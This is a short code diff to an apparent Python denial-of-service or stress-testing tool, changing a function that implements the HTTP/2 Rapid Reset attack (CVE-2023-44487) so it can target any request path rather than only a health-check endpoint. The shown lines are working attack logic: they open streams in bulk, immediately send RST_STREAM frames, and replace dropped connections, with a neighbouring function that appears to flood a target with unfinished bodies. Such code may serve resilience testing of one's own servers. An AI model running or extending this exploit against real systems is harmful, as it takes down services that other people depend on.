@@ -137,7 +137,7 @@ def unfinished_health(target: Target) -> None:
     fill(target, HEALTH_CHECK, "", body, int(300 * target.times))
 
 
-def rapid_resets(target: Target) -> None:
+def rapid_resets(target: Target, path: str = HEALTH_CHECK) -> None:
     """Opens calls and takes them back at once, as fast as the server reads (CVE-2023-44487), on connections
     that it replaces when they are cut."""
     n_peers = max(1, round(2 * target.times))
@@ -152,7 +152,7 @@ def rapid_resets(target: Target) -> None:
             for peer, streams in crowd:
                 if len(peer.unsent) < MIB:
                     for number in itertools.islice(streams, 1000):
-                        peer.write(call_headers(HEALTH_CHECK, number))
+                        peer.write(call_headers(path, number))
                         peer.write(frame(RST_STREAM, 0, number, struct.pack(">I", 8)))
                 peer.pump(seconds=0.01)
 
